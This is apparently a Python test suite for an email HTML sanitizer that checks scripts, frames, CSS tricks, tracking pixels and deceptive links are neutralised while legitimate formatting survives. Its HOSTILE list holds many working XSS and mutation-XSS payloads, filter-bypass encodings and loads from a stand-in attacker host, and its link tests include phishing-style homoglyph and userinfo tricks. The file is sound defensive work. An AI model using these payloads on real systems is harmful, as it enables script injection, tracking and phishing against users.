"""Mail HTML is shown as it was meant, and nothing in it runs, reaches elsewhere, or covers what is not its own."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from psa.mail.message.html.sanitize import MARK, SafeHtml, sanitize

_PARTS = {"cid:photo@x": "part:2", "photo.png": "part:2", "part:2": "part:2"}


def clean(markup: str, *, remote: bool = False) -> SafeHtml:
    return sanitize(markup, picture=_PARTS.get, remote_images=remote)


class _Reader(HTMLParser):
    """What a browser would find: tags, attributes, addresses."""

    def __init__(self, markup: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


_LIVING = set(
    """script style iframe frame object embed form input button select textarea svg math base meta link video audio
    source template noscript title body html xmp plaintext""".split()
)
_ADDRESS = re.compile(r"(?:https?://|mailto:|tel:|sms:|ftp://|callto:|sip:|xmpp:)", re.I)


def assert_harmless(markup: str, *, remote: bool = False) -> None:
    assert "<!--" not in markup and "<?" not in markup and "<!" not in markup
    for tag, attributes in _Reader(markup).found:
        assert tag not in _LIVING, tag
        for name, value in attributes.items():
            value = value or ""
            assert not name.startswith("on") and name not in (
                "id",
                "srcset",
                "action",
                "formaction",
                "background",
                "poster",
            )
            if name == "href":
                assert _ADDRESS.match(value), value
            if name == "src":
                assert value in ("part:2",) or value.startswith("data:image/") or remote and value.startswith("http")
                assert "svg" not in value
            if name == "class":
                assert value == MARK
            if name == "style":
                assert not re.search(r"position|z-index|expression|@|\\|transform|animation|filter|content:", value), (
                    value
                )
                for url in re.findall(r"url\(([^)]*)", value):
                    assert "part:2" in url or remote, value


HOSTILE = [
    # scripts and what starts them
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img src=`x`onerror=alert(1)>",
    "<img src=x:x onerror\x0c=alert(1)>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)' ONCLICK=alert(2)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav\tascript:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='blob:https://x/1'>x</a><a href='view-source:javascript:1'>y</a><a href='feed:javascript:1'>z</a>",
    "<a href='//evil.example\\@good.example'>x</a>",
    # frames, forms, plug-ins, redirections
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf><param name=a></object><embed src=//evil.example>",
    "<form action=https://evil.example><input name=password><button formaction=javascript:1>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<applet code=X></applet><bgsound src=//evil.example>",
    "<frameset><frame src=//evil.example></frameset>",
    # other namespaces, and parsers set against each other
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>x",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<noembed><img src=\"</noembed><script>alert(1)</script>\">",
    "<textarea><img title=\"</textarea><script>alert(1)</script>\">",
    "<title><img src=\"</title><script>alert(1)</script>\">",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<plaintext><script>alert(1)</script>",
    "<table><td background='javascript:alert(1)'>x</table>",
    "<table><tr><td></td></tr><script>alert(1)</script></table>",
    "<p id='a' class='modal-backdrop' name=x contenteditable autofocus onfocus=alert(1) tabindex=1>x</p>",
    "<xss id=x onfocus=alert(1) tabindex=1>x</xss>",
    "<a href=https://x.example ping=https://evil.example download>x</a>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\x00script>alert(1)</\x00script>",
    # styles
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
    "<p style='background:url&#40;https://evil.example/x)'>x</p>",
    "<p style='background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:ex/**/pression(alert(1))'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x.xml#y);behavior:url(x.htc)'>x</p>",
    "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
    "<p style='pos\\69tion:absolute'>x</p>",
    "<p style='margin:-9999px;margin-top:-50px;transform:scale(99);animation:a 1s'>x</p>",
    "<p style='width:999999px;height:9e9px;font-size:9999px;padding:100000px'>x</p>",
    "<p style='list-style:url(https://evil.example/x);cursor:url(//evil.example);content:url(//evil.example)'>x</p>",
    "<p style='color:red\"onmouseover=\"alert(1)'>x</p>",
    "<style>@import 'https://evil.example/x.css';body{background:url(//evil.example)}p{position:fixed}</style><p>x</p>",
    "<style>p{color:red}</style ><script>alert(1)</script><p>x",
    "<style><!--</style><script>alert(1)</script>--></style>",
    "<style>@font-face{font-family:a;src:url(//evil.example/f)}.link-target{display:none}</style>x",
    # pictures that tell somebody
    "<img src=https://evil.example/p.gif>",
    "<img srcset='https://evil.example/1.png 1x, https://evil.example/2.png 2x'>",
    "<picture><source srcset=https://evil.example/x><img src=//evil.example/y></picture>",
    "<video poster=https://evil.example/p.png src=//evil.example/v></video><audio src=//evil.example/a></audio>",
    "<input type=image src=https://evil.example/p.png>",
    "<table background=https://evil.example/x><tr background=//evil.example/y><td background='https://evil.example/z'>x</table>",
    "<body background=https://evil.example/x>x",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img src='https:/\\evil.example/x'><img src='/\\evil.example/x'><img src='\thttps://evil.example'>",
    "<img src=cid:unknown><img src=/admin/delete><img src=file:///x>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
]  # fmt: skip


@pytest.mark.parametrize("attack", HOSTILE)
def test_nothing_that_runs_or_reaches_elsewhere_survives(attack):
    for markup in (attack, f"<p>Hello</p>{attack}<p>Bye", f"<table><tr><td>{attack}", f"<b><i>{attack}</b>"):
        shown = clean(markup).html
        assert_harmless(shown)
        assert "evil.example" not in re.sub(r'<a href="[^"]*"|leads to [a-z.]*|but leads[^"]*', "", shown)
        if markup.endswith("Bye") and "plaintext" not in attack:
            assert "Hello" in shown


_PIECES = [
    *(piece for attack in HOSTILE for piece in re.findall(r"<[^>]*>|[^<>]+|<", attack)),
    "<table>", "<td>", "</table>", "<p>", "</p>", "<b>", "</b>", "<a href=https://x.example>", "</a>", "bank.example",
    "<!--", "-->", "<style>", "</style>", '"', "'", ">", "<", "&lt;", "&#60;", "\x00", "`", "<br>", "word",
]  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=12).map("".join))
def test_no_mixture_of_attacks_survives_and_cleaning_twice_changes_nothing(markup):
    once = clean(markup)
    assert_harmless(once.html)
    assert clean(once.html).html == once.html
    assert_harmless(clean(markup, remote=True).html, remote=True)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="<>/\"'= \n!-?&;#abiopsvgtdrlx:()[]\\", max_size=120))
def test_no_rubbish_survives_as_something_living(markup):
    once = clean(markup)
    assert_harmless(once.html)
    assert clean(once.html).html == once.html


# -- what is kept


def test_style_sheets_are_brought_to_their_elements_and_no_class_is_left():
    shown = clean(
        "<style>p.MsoNormal, li.MsoNormal {margin:0cm;font-family:'Calibri',sans-serif} .note{color:#b00 !important}"
        "@media print {p{display:none}} #x > p {color:blue}</style>"
        "<p class='MsoNormal note' style='color:green'>Words</p>"
    ).html
    assert "margin:0cm" in shown and "color:#b00" in shown and "green" not in shown
    assert "class" not in shown and "blue" not in shown and "display" not in shown


def test_the_sheet_of_the_whole_mail_styles_a_reply_that_is_cut_out_of_it():
    from psa.mail.message import parse, render_html

    raw = (
        b"Subject: Re: x\nIn-Reply-To: <a@b>\nContent-Type: text/html\n\n"
        b"<html><head><style>p.MsoNormal{margin:0cm}</style></head>"
        b"<body><p class=MsoNormal>New</p><blockquote type=cite>Old</blockquote></body></html>"
    )
    shown = render_html(parse(raw), cid_url=str, quoted=False)
    assert shown is not None and "margin:0cm" in shown and "Old" not in shown


def test_what_only_changes_how_words_look_is_kept():
    style = "color:#333;font-size:14px;line-height:1.5;text-indent:-18.0pt;letter-spacing:-0.02em;display:inline-block"
    shown = clean(
        f"<p style='{style}; border:1px solid rgb(1, 2, 3); font:bold 12px/1.4 Arial, \"Noto Sans\"'>x</p>"
    ).html
    for rule in (*style.split(";"), "1px solid rgb(1, 2, 3)", "12px"):
        assert rule in shown.replace(" : ", ":").replace("( ", "(").replace("rgb(1,2,3)", "rgb(1, 2, 3)"), rule


def test_the_page_keeps_its_own_colours():
    shown = clean('<body bgcolor="#eeeeee" text="navy"><p>x</p></body>').html
    assert "background-color:#eeeeee" in shown and "color:navy" in shown


def test_pictures_of_the_mail_are_shown_and_those_from_elsewhere_only_when_asked_for():
    markup = (
        '<img src="CID:photo@x"><img src="photo.png"><img src="http://elsewhere.example/a.png" alt="Map">'
        '<table background="//elsewhere.example/b.png"><td style="background:#fff url(cid:photo@x) no-repeat">x</table>'
    )

    def picture(reference: str) -> str | None:
        return _PARTS.get(reference.replace("CID:", "cid:"))

    held = sanitize(markup, picture=picture)
    assert held.held_back
    assert held.html.count("part:2") == 3 and "elsewhere" not in held.html and 'alt="Map"' in held.html
    asked = sanitize(markup, picture=picture, remote_images=True)
    assert not asked.held_back
    assert (
        'src="https://elsewhere.example/a.png"' in asked.html
        and "http:" not in asked.html
        and "https://elsewhere.example/b.png" in asked.html
    )


def test_a_tracking_pixel_is_never_loaded_and_nothing_to_ask_for():
    for pixel in (
        '<img src="https://t.example/o.gif" width="1" height="1">',
        '<img src="https://t.example/o.gif" style="width:1px;height:1px">',
        '<img src="https://t.example/o.gif" width=0 height=0>',
    ):
        assert clean(pixel) == SafeHtml("")
        assert clean(pixel, remote=True).html == ""


def test_embedded_pictures_stay():
    data = "data:image/png;base64,iVBORw0KGgo="
    assert f'src="{data}"' in clean(f'<img src="{data}">').html
    assert f'src="{data}"' in clean('<img src="data:image/png;base64,iVBOR\r\n w0KGgo=">').html


def test_a_mail_without_anything_from_elsewhere_holds_nothing_back():
    assert not clean('<p><a href="https://x.example">x</a><img src="cid:photo@x"></p>').held_back


def test_misnested_elements_keep_their_words_in_order():
    shown = clean("<table><b>1<tr><td>2</b><td>3</table><p>4<div>5</p>6").html
    assert re.findall(r"\d(?=<)", shown) == ["1", "2", "3", "4", "5", "6"]


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 50_000 + "found",
        "<b>" * 20_000 + "<p>" * 20_000 + "found",
        "<table><tr><td>" * 10_000 + "found",
        '<p title="' + "x" * 10_000_000 + '">found',
        "<p " + 'a="b" ' * 300_000 + ">found",
        "<font color=red size=2><p>x</p>" * 20_000 + "found",
        "<a href='https://x.example'><p>" * 15_000 + "found",
        "<style>" + ".a{color:red}" * 20_000 + "</style>" + "<p class='a a a a a a'>x" * 20_000 + "found",
        "<p style='" + "(" * 1_000_000 + "'>found",
        '<img src="data:image/png;base64,' + "A" * 8_000_000 + '">found',
        "<td colspan=99999 rowspan=99999>" * 10_000 + "found",
        "<!--" * 100_000 + ">found",
    ],
    ids=range(12),
)
@pytest.mark.timeout(60)
def test_deep_huge_and_broken_markup_is_shown_with_its_words(markup):
    shown = clean(markup).html
    assert "found" in shown
    assert len(shown) < 3 * len(markup) + 3_000_000
    assert_harmless(shown)


# -- links


@pytest.mark.parametrize(
    ("href", "words", "leads_to"),
    [
        ("https://evil.example/login", "https://www.bank.example/login", "evil.example"),
        ("https://evil.example/login", "bank.com", "evil.example"),
        ("https://bank.example.evil.example/", "www.bank.example", "bank.example.evil.example"),
        ("https://www.bank.example@evil.example/", "Your bank", "evil.example"),
        ("https://www.bank.com@evil.example/", "www.bank.com@evil.example", "evil.example"),
        ("https://evil.example\\@bank.example", "bank.example/start", "evil.example"),
        ("https://xn--pypal-4ve.example/", "Pay now", "xn--pypal-4ve.example"),
        ("https://аррӏе.com/", "Sign in", "xn--80ak6aa92e.com"),
        ("https://evil.example", "b\u200ban\u00adk.com", "evil.example"),
        ("https://evil.example", "ｂａｎｋ．com", "evil.example"),
        ("https://192.0.2.7/bank", "www.bank.example", "192.0.2.7"),
        ("mailto:thief@evil.example", "help@bank.com", "thief@evil.example"),
        ("https://www.google.com/url?q=https://evil.example/x", "www.google.com", "evil.example"),
    ],
)
def test_a_link_that_leads_elsewhere_than_it_says_is_marked_with_the_real_target(href, words, leads_to):
    shown = clean(f'<p><a href="{href}">{words}</a> now</p>')
    assert shown.marked_links == 1
    assert f"(leads to {leads_to})" in shown.html and f'class="{MARK}"' in shown.html
    assert shown.html.index("</a>") < shown.html.index("(leads to")


@pytest.mark.parametrize(
    ("href", "words"),
    [
        ("https://www.bank.example/a?b", "bank.example"),
        ("https://bank.example/", "https://www.bank.example/login"),
        ("https://login.bank.example/x", "bank.example"),
        ("https://evil.example/", "Click here"),
        ("https://git.example/readme.md", "readme.md"),
        ("https://nodes.example/", "Node.js"),
        ("https://xn--mnchen-3ya.de/", "münchen.de"),
        (
            "https://eu1.safelinks.protection.outlook.com/?url=https%3A%2F%2Fbank.example%2Fa&data=05",
            "https://bank.example/a",
        ),
        ("https://urldefense.com/v3/__https://bank.example/a__;!!x", "bank.example"),
        ("https://urldefense.proofpoint.com/v2/url?u=https-3A__bank.example_a&d=x", "www.bank.example"),
        ("mailto:mia@harbour.example", "mia@harbour.example"),
        ("http://mia@harbour.example", "mia@harbour.example"),
        ("tel:+4989123", "089 123"),
    ],
)
def test_an_honest_link_is_not_marked(href, words):
    assert clean(f'<a href="{href}">{words}</a>').marked_links == 0


def test_a_mark_cannot_be_forged_and_a_link_explains_itself_nowhere_else():
    shown = clean(
        f'<a href="https://evil.example/" title="https://bank.example">www.bank.example</a>'
        f'<span class="{MARK}">(leads to bank.example)</span> rest'
    )
    assert shown.html.count("leads to") == 2  # the mark's title and its words
    assert "(leads to evil.example)" in shown.html and "(leads to bank.example)" not in shown.html
    assert 'title="https://bank' not in shown.html
